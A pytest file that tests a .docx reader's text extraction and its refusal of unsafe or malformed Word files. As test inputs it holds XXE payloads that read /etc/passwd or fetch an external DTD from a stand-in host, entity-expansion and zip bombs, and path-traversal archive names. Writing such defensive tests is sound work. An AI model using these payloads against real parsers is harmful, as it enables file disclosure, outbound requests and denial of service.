"""Word files: read as they show on the page, and refused before they unpack where they are not what they say."""

# ruff: noqa: E501 (markup is easier to read in one line)

from __future__ import annotations

import io
import tracemalloc
import zipfile

import docx
import pytest
from papers import W, word, word_paragraph

from analysis import readers
from analysis.article import Article, Failure

ONE = "The council closed the ferry on Monday."
TWO = "“It leaks,” the inspector said."


def read(data: bytes) -> Article:
    (found,) = readers.read_bytes("a.docx", data)
    assert isinstance(found, Article), found
    return found


def refused(data: bytes) -> Failure:
    (found,) = readers.read_bytes("a.docx", data)
    assert isinstance(found, Failure)
    assert found.message.startswith("a.docx ")
    return found


def test_a_file_that_python_docx_wrote() -> None:
    document = docx.Document()
    document.sections[0].header.paragraphs[0].text = "The Quay Courier"
    document.add_heading("Ferry tied up until spring", level=0)
    document.add_paragraph(ONE)
    table = document.add_table(rows=1, cols=2)
    table.cell(0, 0).text = "Boats in service"
    document.add_paragraph(TWO)
    out = io.BytesIO()
    document.save(out)
    found = read(out.getvalue())
    assert (found.title, found.text) == ("Ferry tied up until spring", f"{ONE}\n\n{TWO}")
    assert found.warnings == ("The tables of the file were left out.",)


def test_changes_count_as_accepted() -> None:
    runs = (
        "<w:p><w:r><w:t>The ferry </w:t></w:r><w:del><w:r><w:delText>sank</w:delText></w:r></w:del>"
        "<w:ins><w:r><w:t>leaked</w:t></w:r></w:ins><w:r><w:t>.</w:t><w:br/><w:t>It is old</w:t><w:noBreakHyphen/><w:t>fashioned.</w:t></w:r></w:p>"
    )
    assert read(word(runs)).text == "The ferry leaked.\nIt is old-fashioned."


def test_text_boxes_and_field_codes_are_no_running_text() -> None:
    box = f"<w:p><w:r><w:pict><w:txbxContent>{word_paragraph('An advertisement')}</w:txbxContent></w:pict></w:r></w:p>"
    field = "<w:p><w:r><w:instrText>HYPERLINK x</w:instrText></w:r><w:r><w:t>The ferry leaks.</w:t></w:r></w:p>"
    assert read(word(box + field)).text == "The ferry leaks."


def test_a_file_laid_out_as_a_table_is_read() -> None:
    assert read(word(f"<w:tbl><w:tr><w:tc>{word_paragraph(ONE)}</w:tc></w:tr></w:tbl>")).text == ONE


def test_without_a_style_the_first_line_may_be_the_title() -> None:
    found = read(word(word_paragraph("Ferry tied up until spring") + word_paragraph(ONE)))
    assert found.title == "Ferry tied up until spring"
    assert found.warnings == ("The first line was taken as the title.",)


@pytest.mark.parametrize(
    ("data", "code", "advice"),
    [
        (b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"), "encrypted", "save it without one"),
        (b"\xd0\xcf\x11\xe0" + b"\0" * 600, "binary", "save it as .docx"),
        (word(word_paragraph(ONE))[:200], "damaged", "save it anew"),
        (word(""), "no_text", "plain file"),
        (word("<w:p>"), "damaged", "save it anew"),
        (word(word_paragraph(ONE)).replace(b"word/document.xml", b"word/d0cument.txt"), "not_word", "give the article as .docx"),
        (b"The boats left the bay.", "damaged", "save it anew"),
    ],
)
def test_what_is_no_article_is_refused_with_what_to_do(data: bytes, code: str, advice: str) -> None:
    found = refused(data)
    assert found.code == code
    assert advice in found.message


@pytest.mark.parametrize(
    "prolog",
    [
        '<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a SYSTEM "http://198.51.100.1/evil.dtd">',
        '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://198.51.100.1/evil.dtd"> %p;]>',
    ],
)
def test_entities_are_refused_before_a_tree_is_built(prolog: str) -> None:
    assert refused(word(word_paragraph(ONE), prolog=prolog)).code == "forbidden_xml"
    utf16 = f'<?xml version="1.0" encoding="UTF-16"?>{prolog}<a/>'.encode("utf-16")
    assert refused(word(word_paragraph(ONE), extra={"word/styles.xml": utf16})).code == "forbidden_xml"


def test_deep_xml_is_refused_by_the_limit_s_name() -> None:
    found = refused(word("<w:p>" * 5_000 + "</w:p>" * 5_000))
    assert found.code == "too_large"
    assert "EVENHAND_MAX_XML_DEPTH" in found.message


def bomb(size: int, parts: int = 1) -> bytes:
    return word(word_paragraph(ONE), extra={f"word/media/{n}.bin": b"\0" * size for n in range(parts)})


def test_a_bomb_is_refused_by_its_directory_and_never_unpacked() -> None:
    data = bomb(20_000_000)
    tracemalloc.start()
    assert refused(data).code == "too_large"
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 2_000_000


def test_many_small_parts_are_refused_by_the_limit_s_name(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("EVENHAND_MAX_UNPACKED_MB", "1")
    assert "EVENHAND_MAX_UNPACKED_MB" in refused(bomb(100_000, 12)).message
    monkeypatch.setenv("EVENHAND_MAX_ARCHIVE_FILES", "10")
    assert "EVENHAND_MAX_ARCHIVE_FILES" in refused(bomb(10, 12)).message


def test_a_part_that_is_larger_than_its_directory_says_is_damaged() -> None:
    data = bytearray(word(word_paragraph(ONE * 400)))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        true = archive.getinfo("word/document.xml").file_size
    lied = bytes(data).replace(true.to_bytes(4, "little"), (true - 900).to_bytes(4, "little"))
    assert lied != data
    assert refused(lied).code == "damaged"


def test_names_that_climb_out_of_the_folder_lead_nowhere(tmp_path: object, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(str(tmp_path))
    data = word(word_paragraph(ONE), extra={"../../climbed.txt": "x", "/etc/climbed": "x", "..\\climbed.xml": f"<a {W}/>"})
    assert read(data).text == ONE
    assert list(__import__("pathlib").Path().iterdir()) == []
